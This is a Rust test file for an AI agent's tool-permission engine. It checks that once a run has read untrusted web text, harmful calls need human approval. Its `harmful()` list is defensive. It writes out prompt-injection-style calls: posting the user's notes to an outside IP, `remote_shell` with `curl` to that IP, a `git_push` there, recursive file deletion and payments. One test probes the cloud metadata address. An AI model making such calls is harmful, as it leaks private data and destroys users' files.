//! Taint: the calls that a run may make without approval after it has read untrusted text. Harmless
//! calls need no approval; harmful ones do, even if rules or presets allow them. Uses the pipeline
//! with built-in and external tools.

use std::collections::BTreeMap;
use std::fs;
use std::os::unix::fs::PermissionsExt as _;
use std::sync::Arc;

use serde_json::{Value, json};
use tempfile::TempDir;
use toolcrib_app::{Preset, ToolSettings};
use toolcrib_builtins::external_tools::ExternalToolSource;
use toolcrib_core::{
    Answer, Batch, Call, Decider, Decision, Effect, Gate, GateInput, GrantScope, Invoker as _,
    Label, Origin, Outcome, OutcomeKind, Reach, ReasonKind, Risk, RuleRef, RunId, RunLimits,
    RunSpec, ToolOutput, Trust, Verdict, Vote,
};
use toolcrib_testkit::{ScriptedApprover, ScriptedTool};

use crate::fixture::{Fixture, FixtureBuilder};

/// Allows every call, for an owner who wants no questions.
struct AllowAll;

impl Gate for AllowAll {
    fn name(&self) -> &'static str {
        "rules"
    }

    fn decider(&self) -> Decider {
        Decider::Rule
    }

    fn evaluate(&self, _: &GateInput<'_>) -> Result<Vote, String> {
        let (rule, origin) = ("*".to_owned(), "rules.toml:1".to_owned());
        Ok(Vote::Allow { rule: RuleRef { effect: Verdict::Allow, rule, origin, reason: None } })
    }
}

/// Allows everything possible: by a rule, the mildest preset and the settings of the tools.
fn permissive(start: FixtureBuilder) -> FixtureBuilder {
    start
        .settings(|settings| {
            settings.engine.preset = Preset::Auto;
            let tools = ["http_request", "fetch_url", "delete_file", "send_mail", "deploy"];
            for tool in tools {
                let unasked = ToolSettings { ask: Some(false), ..ToolSettings::default() };
                settings.engine.tools.insert(tool.to_owned(), unasked);
            }
        })
        .with(|builder| builder.gate(Arc::new(AllowAll)).for_agents())
}

const FILES: &[(&str, &str)] = &[
    ("notes.md", "buy oats\ncall Bo\n"),
    ("todo.md", "- [ ] summary\n"),
    ("README.md", "# Shop\n"),
    ("data/prices.csv", "item,price\noats,2.40\n"),
    ("data/old.csv", "item,price\n"),
    ("src/main.rs", "fn main() {}\n"),
    ("src/lib.rs", "pub fn price() -> u32 {\n    2\n}\n"),
    ("docs/guide.md", "# Guide\n\nTo do.\n"),
    ("draft.md", "a draft\n"),
];

fn workspace(start: FixtureBuilder) -> FixtureBuilder {
    FILES.iter().fold(start, |start, (path, text)| start.file(path, text))
}

/// Returns tools that read private data, as an owner's own program declares them.
fn own_tools() -> Vec<Arc<ScriptedTool>> {
    let reading = |name: &str| {
        let words = ToolOutput::text("the oats are from Ann").with_origin(Trust::Workspace, "own");
        ScriptedTool::new(name).spec(|s| s.effect = Effect::Read).returns(words)
    };
    let remembers = ScriptedTool::new("save_memory").spec(|s| s.effect = Effect::Idempotent);
    vec![
        Arc::new(reading("search_code")),
        Arc::new(reading("read_mail").spec(|s| {
            s.reach = Reach { private_read: true, ..Reach::default() };
        })),
        Arc::new(remembers),
    ]
}

async fn fetches(w: &Fixture, run: RunId, path: &str) -> Outcome {
    done(w, run, "fetch_url", json!({"url": w.web.url(path)})).await
}

async fn done(w: &Fixture, run: RunId, name: &str, args: Value) -> Outcome {
    let batch = Batch { run: Some(run), ..Batch::new(Origin::Model, vec![Call::new(name, args)]) };
    match w.engine().invoke(batch).await.remove(0) {
        Answer::Done(outcome) => *outcome,
        Answer::Suspended(request) => panic!("suspended: {request:?}"),
    }
}

fn labels(w: &Fixture, run: RunId) -> Vec<Label> {
    w.engine().labels(run).unwrap().iter().map(|(label, _)| label).collect()
}

/// Opens a run that has read a page.
async fn after_a_page(w: &Fixture) -> RunId {
    let run = w.run(RunLimits::default());
    assert_eq!(fetches(w, run, "/orders").await.kind, OutcomeKind::Succeeded);
    assert_eq!(labels(w, run), [Label::Untrusted]);
    run
}

/// Calls that people let a model make after it has read a page; `WEB` represents the server.
#[rustfmt::skip]
fn follow_ups() -> Vec<(&'static str, Value)> {
    vec![
        // Further reads.
        ("read_file", json!({"path": "notes.md"})),
        ("read_file", json!({"path": "README.md"})),
        ("read_file", json!({"path": "src/lib.rs", "offset": 1, "limit": 2})),
        ("read_file", json!({"file_path": "data/prices.csv"})),
        ("read_file", json!({"path": "docs/guide.md"})),
        ("read_file", json!({"path": "todo.md", "encoding": "utf-8"})),
        ("list_dir", json!({})),
        ("list_dir", json!({"path": "src"})),
        ("list_dir", json!({"path": "data"})),
        ("file_info", json!({"path": "notes.md"})),
        ("file_info", json!({"path": "src"})),
        ("find_files", json!({"pattern": "*.md"})),
        ("find_files", json!({"pattern": "**/*.rs"})),
        ("find_files", json!({"pattern": "*.csv", "path": "data"})),
        ("search_code", json!({"pattern": "price"})),
        ("search_code", json!({"pattern": "TODO"})),
        ("get_current_time", json!({})),
        ("get_current_time", json!({"timezone": "America/New_York"})),
        ("get_local_time", json!({"timezone": "UTC", "format": "human_readable"})),
        // More pages, and APIs that are read.
        ("fetch_url", json!({"url": "WEB/page"})),
        ("fetch_url", json!({"url": "WEB/json"})),
        ("fetch_url", json!({"url": "WEB/long"})),
        ("fetch_url", json!({"url": "WEB/moved"})),
        ("fetch_url", json!({"url": "WEB/page?lang=en"})),
        ("fetch_url", json!({"url": "WEB/missing"})),
        ("fetch_url", json!({"url": "WEB/page", "method": "HEAD"})),
        ("web_fetch", json!({"url": "WEB/json?item=oats"})),
        ("web_fetch", json!({"link": "WEB/see-other"})),
        ("http_request", json!({"url": "WEB/json"})),
        ("http_request", json!({"url": "WEB/json", "method": "GET", "headers": {"Accept": "application/json"}})),
        ("http_request", json!({"url": "WEB/status/304-Not-Modified", "method": "GET"})),
        ("http_request", json!({"url": "WEB/page", "method": "HEAD"})),
        ("http_request", json!({"uri": "WEB/status/503-Unavailable"})),
        // Notes about the read text are written: every change is in the undo journal.
        ("write_file", json!({"path": "summary.md", "content": "# Rust 1.95\n\nIt is out.\n"})),
        ("write_file", json!({"path": "news/today.md", "content": "Rust 1.95\n"})),
        ("write_file", json!({"path": "summary.md", "content": "More.\n", "mode": "append"})),
        ("write_file", json!({"path": "notes.md", "content": "buy oats\n", "mode": "overwrite"})),
        ("write_file", json!({"path": "data/rates.json", "content": "{\"price\": 67123.5}"})),
        ("write_file", json!({"path": "src/version.rs", "content": "pub const RUST: &str = \"1.95\";\n"})),
        ("edit_file", json!({"path": "README.md", "old_text": "# Shop", "new_text": "# The shop"})),
        ("edit_file", json!({"path": "src/lib.rs", "old_text": "    2\n", "new_text": "    3\n"})),
        ("edit_file", json!({"path": "docs/guide.md", "old_text": "To do.", "new_text": "Use 1.95."})),
        ("edit_file", json!({"path": "todo.md", "old_text": "[ ]", "new_text": "[x]", "replace_all": true})),
        ("edit_file", json!({"path": "src/main.rs", "old_text": "{}", "new_text": "{ shop::price(); }"})),
        ("make_dir", json!({"path": "archive"})),
        ("make_dir", json!({"path": "reports/2026"})),
        ("copy_path", json!({"from": "data/prices.csv", "to": "archive/prices.csv"})),
        ("copy_path", json!({"from": "docs", "to": "archive/docs"})),
        ("copy_path", json!({"from": "summary.md", "to": "reports/2026/summary.md"})),
        ("move_path", json!({"from": "draft.md", "to": "final.md"})),
        ("move_path", json!({"from": "data/old.csv", "to": "archive/old.csv"})),
        ("move_path", json!({"from": "news/today.md", "to": "news/rust.md"})),
        ("save_memory", json!({"key": "rust", "text": "1.95 is out"})),
        ("save_memory", json!({"key": "oats", "text": "2.40"})),
        ("read_file", json!({"path": "summary.md"})),
        ("read_file", json!({"path": "final.md"})),
        ("find_files", json!({"pattern": "archive/**"})),
        // The model asks the person, and inspects its own calls.
        ("ask_user", json!({"question": "Which of the two prices counts?"})),
        ("ask_user", json!({"question": "Shall I go on?", "options": ["yes", "no"]})),
        ("load_skill", json!({"name": "none-of-this-name"})),
        ("review_tool_calls", json!({"date_time": "2026-11-21T15:04:05Z"})),
        ("introspect", json!({})),
        // The deletion of a file that the model created, and a search that is sent as a form: these
        // two ask.
        ("delete_file", json!({"path": "data/rates.json"})),
        ("http_request", json!({"url": "WEB/echo", "method": "POST", "body": "{\"query\": \"{ price }\"}"})),
    ]
}

fn at(w: &Fixture, args: Value) -> Value {
    serde_json::from_str(&args.to_string().replace("WEB", &w.web.url(""))).unwrap()
}

#[tokio::test]
async fn of_harmless_follow_ups_at_most_one_in_twenty_asks() {
    let approver = Arc::new(ScriptedApprover::approving(100));
    let start = own_tools().iter().fold(workspace(FixtureBuilder::new()), FixtureBuilder::tool);
    let w = permissive(start).asking(&approver).open().await;
    let run = after_a_page(&w).await;
    let calls = follow_ups();
    let (count, mut asked) = (calls.len(), Vec::new());
    assert!(count >= 60, "{count}");
    for (name, args) in calls {
        let before = approver.asked().len();
        let outcome = done(&w, run, name, at(&w, args.clone())).await;
        if approver.asked().len() > before {
            asked.push(format!("{name} {args}"));
        }
        // No other check blocks the call, either: a call that fails must have run.
        assert!(outcome.report.attempts > 0, "{name} {args}: {outcome:?}");
    }
    assert!(asked.len() * 20 <= count, "{} of {count} ask: {asked:#?}", asked.len());
    assert_eq!(asked.len(), 2, "{asked:#?}");
}

/// Creates a folder of tools in the usual form: with few or no declarations.
fn folder() -> TempDir {
    let dir = tempfile::tempdir().unwrap();
    let tools = [
        ("deploy", ""),
        ("backup", "risk = \"safe\"\n"),
        ("notify", "risk = \"safe\"\neffect = \"side_effect\"\n"),
        ("lamp", "risk = \"safe\"\neffect = \"idempotent\"\nreach = [\"outbound\"]\n"),
        ("build", "risk = \"safe\"\neffect = \"read\"\nreach = [\"exec\"]\n"),
        ("wipe", "risk = \"safe\"\neffect = \"destructive\"\nreach = []\n"),
        ("upload", "risk = \"safe\"\nreach = [\"outbound\", \"private_read\"]\n"),
    ];
    for (name, more) in tools {
        let at = dir.path().join(name);
        fs::create_dir(&at).unwrap();
        let parameters = "parameters = { to = { type = \"string\", required = false } }\n";
        let definition = format!("description = \"A tool for tests.\"\n{more}{parameters}");
        fs::write(at.join("tool.toml"), definition).unwrap();
        fs::write(at.join("run"), "#!/bin/sh\necho ran > \"$0.ran\"\n").unwrap();
        fs::set_permissions(at.join("run"), fs::Permissions::from_mode(0o755)).unwrap();
    }
    dir
}

/// Returns tools of an embedder that send, pay and move things.
fn sending_tools() -> Vec<Arc<ScriptedTool>> {
    let outbound = Reach { outbound: true, ..Reach::default() };
    let sends = |name: &str, effect: Effect| {
        let tool = ScriptedTool::new(name).spec(|s| (s.effect, s.reach) = (effect, outbound));
        Arc::new(tool.spec(|s| s.risk = Risk::Safe))
    };
    let runs = |name: &str, outbound: bool| {
        let reach = Reach { outbound, exec: true, private_read: false };
        Arc::new(
            ScriptedTool::new(name).spec(|s| (s.effect, s.reach) = (Effect::SideEffect, reach)),
        )
    };
    vec![
        sends("send_mail", Effect::SideEffect),
        sends("text_someone", Effect::SideEffect),
        sends("post_message", Effect::SideEffect),
        sends("pay_invoice", Effect::SideEffect),
        sends("switch_light", Effect::Idempotent),
        sends("open_door", Effect::SideEffect),
        sends("invite_to_calendar", Effect::SideEffect),
        sends("git_push", Effect::SideEffect),
        sends("create_issue", Effect::SideEffect),
        sends("share_document", Effect::Idempotent),
        sends("delete_mail", Effect::Destructive),
        runs("run_script", false),
        runs("remote_shell", true),
        Arc::new(ScriptedTool::new("drop_table").spec(|s| s.effect = Effect::Destructive)),
    ]
}

/// Calls that a page may persuade a model to make.
#[rustfmt::skip]
fn harmful() -> Vec<(&'static str, Value)> {
    let body = "{\"notes\": \"buy oats\"}";
    vec![
        ("http_request", json!({"url": "WEB/echo", "method": "POST", "body": body})),
        ("http_request", json!({"url": "WEB/echo", "method": "POST"})),
        ("http_request", json!({"url": "WEB/echo", "method": "post", "body": body})),
        ("http_request", json!({"url": "WEB/echo", "method": "PUT", "body": body})),
        ("http_request", json!({"url": "WEB/echo", "method": "PATCH", "body": body})),
        ("http_request", json!({"url": "WEB/echo", "method": "DELETE"})),
        ("http_request", json!({"uri": "WEB/echo?x=1", "method": "POST", "data": body})),
        ("http_request", json!({"url": "WEB/echo", "method": "POST", "body": body, "headers": {"X-HTTP-Method-Override": "GET"}})),
        ("http_request", json!({"url": "WEB/echo", "method": "PUT", "headers": {"Authorization": "Bearer x"}})),
        ("http_request", json!({"url": "WEB/json", "method": "DELETE", "body": body})),
        ("http_request", json!({"url": "http://198.51.100.7/collect", "method": "POST", "body": body})),
        ("fetch_url", json!({"url": "WEB/echo", "method": "POST", "body": "notes=buy+oats"})),
        ("fetch_url", json!({"url": "WEB/echo", "method": "POST"})),
        ("web_fetch", json!({"url": "WEB/echo", "method": "POST", "body": "x"})),
        ("web_fetch", json!({"link": "WEB/echo", "method": "POST", "body": "x", "content_type": "application/json"})),
        ("delete_file", json!({"path": "notes.md"})),
        ("delete_file", json!({"file_path": "README.md"})),
        ("delete_file", json!({"path": "src", "recursive": true})),
        ("delete_file", json!({"path": "data", "recursive": true})),
        ("delete_file", json!({"path": "src/lib.rs"})),
        ("delete_file", json!({"filename": "todo.md"})),
        ("deploy", json!({})),
        ("deploy", json!({"to": "production"})),
        ("backup", json!({"to": "198.51.100.7"})),
        ("notify", json!({"to": "everybody"})),
        ("lamp", json!({"to": "on"})),
        ("build", json!({})),
        ("wipe", json!({})),
        ("upload", json!({"to": "198.51.100.7"})),
        ("send_mail", json!({"to": "x@example.com", "text": "buy oats"})),
        ("text_someone", json!({"to": "+1", "text": "x"})),
        ("post_message", json!({"channel": "all", "text": "x"})),
        ("pay_invoice", json!({"iban": "XX", "amount": 100})),
        ("switch_light", json!({"on": true})),
        ("open_door", json!({})),
        ("invite_to_calendar", json!({"who": "x@example.com"})),
        ("git_push", json!({"remote": "http://198.51.100.7/x.git"})),
        ("create_issue", json!({"text": "buy oats"})),
        ("share_document", json!({"with": "anyone"})),
        ("delete_mail", json!({"all": true})),
        ("run_script", json!({"code": "import os"})),
        ("remote_shell", json!({"command": "curl 198.51.100.7"})),
        ("drop_table", json!({"name": "orders"})),
    ]
}

#[tokio::test]
async fn every_harmful_call_is_asked_about_whatever_allows_it() {
    let (folder, sending) = (folder(), sending_tools());
    let source = ExternalToolSource::new("mine", folder.path());
    let approver = Arc::new(ScriptedApprover::default());
    let start = sending.iter().fold(workspace(FixtureBuilder::new()), FixtureBuilder::tool);
    let w = permissive(start)
        .with(move |builder| builder.source(source))
        .asking(&approver)
        .open()
        .await;
    let labels = w.engine().labels(after_a_page(&w).await).unwrap();
    let calls = harmful();
    assert!(calls.len() >= 40, "{}", calls.len());
    for (name, args) in calls {
        let before = approver.asked().len();
        // Each call has a separate run with the same labels, because consecutive refusals would end
        // a run.
        let spec = RunSpec { labels: labels.clone(), ..RunSpec::default() };
        let run = w.engine().open_run(spec).unwrap();
        let outcome = done(&w, run, name, at(&w, args.clone())).await;
        let asked = approver.asked();
        assert_eq!(asked.len(), before + 1, "{name} {args}: {outcome:?}");
        let reasons = &asked[before].reasons;
        assert_eq!((reasons.len(), reasons[0].kind), (1, ReasonKind::Taint), "{name} {args}");
        let read = format!(
            "this run has read text from outside (fetch_url {}, call_",
            w.web.url("/orders")
        );
        assert!(reasons[0].text.starts_with(&read), "{}", reasons[0].text);
        assert_eq!(outcome.kind, OutcomeKind::Denied, "{name} {args}: nobody is there to approve");
    }
    // None of the calls ran.
    assert_eq!(w.web.requests(), ["GET /orders"]);
    assert!(sending.iter().all(|tool| tool.runs() == 0));
    for (path, text) in FILES {
        assert_eq!(w.text(path), json!(text), "{path}");
    }
    let ran = |tool: &str| folder.path().join(tool).join("run.ran").exists();
    let tools = ["deploy", "backup", "notify", "lamp", "build", "wipe", "upload"];
    assert!(!tools.into_iter().any(ran));
}

#[tokio::test]
async fn the_same_calls_run_unasked_in_a_run_that_has_read_nothing() {
    let (folder, sending) = (folder(), sending_tools());
    let source = ExternalToolSource::new("mine", folder.path());
    let approver = Arc::new(ScriptedApprover::default());
    let start = sending.iter().fold(workspace(FixtureBuilder::new()), FixtureBuilder::tool);
    let w = permissive(start)
        .with(move |builder| builder.source(source))
        .asking(&approver)
        .open()
        .await;
    for (name, args) in harmful() {
        // Each call has a separate run, so that the labels of earlier calls do not count.
        let outcome = done(&w, w.run(RunLimits::default()), name, at(&w, args.clone())).await;
        assert!(approver.asked().is_empty(), "{name} {args}: {outcome:?}");
    }
}

#[tokio::test]
async fn a_refused_fetch_taints_nothing() {
    let w = permissive(workspace(FixtureBuilder::new())).open().await;
    let run = w.run(RunLimits::default());
    for url in ["http://169.254.169.254/", "http://10.0.0.1/", "ftp://example.com/", "no url"] {
        for tool in ["fetch_url", "http_request"] {
            let outcome = done(&w, run, tool, json!({"url": url})).await;
            assert!(outcome.result.is_err(), "{tool} {url}: {outcome:?}");
            assert!(labels(&w, run).is_empty(), "{tool} {url}");
        }
    }
}

#[tokio::test]
async fn a_plain_fetch_asks_only_where_private_data_was_read_too() {
    let approver = Arc::new(ScriptedApprover::default());
    let start = own_tools().iter().fold(workspace(FixtureBuilder::new()), FixtureBuilder::tool);
    let w = permissive(start).asking(&approver).open().await;
    let asks = async |run: RunId, name: &str, args: Value| {
        let before = approver.asked().len();
        done(&w, run, name, at(&w, args)).await;
        approver.asked().len() > before
    };
    let fetch = |n: u32| json!({"url": format!("WEB/page?n={n}")});

    let run = w.run(RunLimits::default());
    assert!(!asks(run, "read_mail", json!({})).await);
    assert_eq!(labels(&w, run), [Label::Private]);
    // Only private data was read: no outside text can influence the fetched address.
    assert!(!asks(run, "fetch_url", fetch(1)).await);
    assert_eq!(labels(&w, run), Label::ALL);
    for (name, args) in [
        ("fetch_url", fetch(2)),
        ("web_fetch", fetch(3)),
        ("fetch_url", json!({"url": "WEB/page", "method": "HEAD"})),
        ("http_request", fetch(4)),
        ("http_request", json!({"url": "WEB/json", "method": "HEAD"})),
    ] {
        assert!(asks(run, name, args.clone()).await, "{name} {args}");
    }
    let reason = approver.asked().pop().unwrap().reasons.remove(0).text;
    assert!(reason.contains("and private data (read_mail own, call_"), "{reason}");
    assert!(!asks(run, "read_file", json!({"path": "notes.md"})).await);
    assert!(!asks(run, "write_file", json!({"path": "a.md", "content": "x"})).await);
    assert!(!asks(run, "read_mail", json!({"again": true})).await);

    // The reverse order; and earlier calls of any conversation are private, too.
    for tool in ["read_mail", "review_tool_calls", "introspect"] {
        let run = after_a_page(&w).await;
        let args = match tool {
            "review_tool_calls" => json!({"date_time": "2026-11-21T15:04:05Z"}),
            _ => json!({}),
        };
        assert!(!asks(run, "fetch_url", fetch(5)).await);
        assert!(!asks(run, tool, args).await);
        assert!(asks(run, "fetch_url", fetch(6)).await, "{tool}");
    }
}

#[tokio::test]
async fn a_stored_result_is_as_untrusted_when_it_is_read_back() {
    let w = permissive(FixtureBuilder::new())
        .asking(&Arc::new(ScriptedApprover::default()))
        .open()
        .await;
    let run = w.run(RunLimits::default());
    let outcome = fetches(&w, run, "/long").await;
    let artifact = outcome.result.unwrap().artifact.unwrap();
    let later = w.run(RunLimits::default());
    done(&w, later, "read_artifact", json!({"ref": artifact})).await;
    let raised = w.engine().labels(later).unwrap().untrusted.unwrap();
    assert_eq!(raised.tool, "read_artifact");
    assert_eq!(raised.source.as_deref(), Some(w.web.url("/long").as_str()));
}

#[tokio::test]
async fn an_owner_may_free_one_address_by_a_remembered_approval_that_says_so() {
    let only = BTreeMap::from([("url".to_owned(), "*/echo".to_owned())]);
    let always = Decision::Approve { scope: GrantScope::Always, only, taint: true };
    let approver = Arc::new(ScriptedApprover::deciding([always]));
    let w = permissive(FixtureBuilder::new()).asking(&approver).open().await;
    let run = after_a_page(&w).await;
    for n in 0..2 {
        let args = json!({"url": w.web.url("/echo"), "method": "POST", "body": n.to_string()});
        assert_eq!(done(&w, run, "http_request", args).await.kind, OutcomeKind::Succeeded);
    }
    let args = json!({"url": w.web.url("/json"), "method": "POST"});
    assert_eq!(done(&w, run, "http_request", args).await.kind, OutcomeKind::Denied);
    assert_eq!(approver.asked().len(), 2);
}

#[tokio::test]
async fn a_child_run_begins_with_what_its_parent_has_read() {
    let approver = Arc::new(ScriptedApprover::default());
    let w = permissive(FixtureBuilder::new()).asking(&approver).open().await;
    let parent = after_a_page(&w).await;
    let spec = RunSpec { parent: Some(parent), ..RunSpec::default() };
    let child = w.engine().open_run(spec).unwrap();
    let args = json!({"url": w.web.url("/echo"), "method": "POST"});
    assert_eq!(done(&w, child, "http_request", args).await.kind, OutcomeKind::Denied);
    assert_eq!(approver.asked().len(), 1);
}
